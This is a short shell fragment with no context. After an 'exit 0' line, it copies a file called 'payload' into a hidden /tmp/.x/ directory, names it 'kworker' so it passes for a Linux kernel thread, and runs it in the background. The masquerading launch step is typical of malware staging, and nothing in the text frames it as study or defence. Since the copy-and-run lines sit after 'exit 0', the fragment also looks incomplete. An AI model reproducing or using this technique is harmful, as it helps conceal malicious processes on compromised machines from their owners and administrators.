exit 0
cp payload /tmp/.x/kworker
/tmp/.x/kworker &
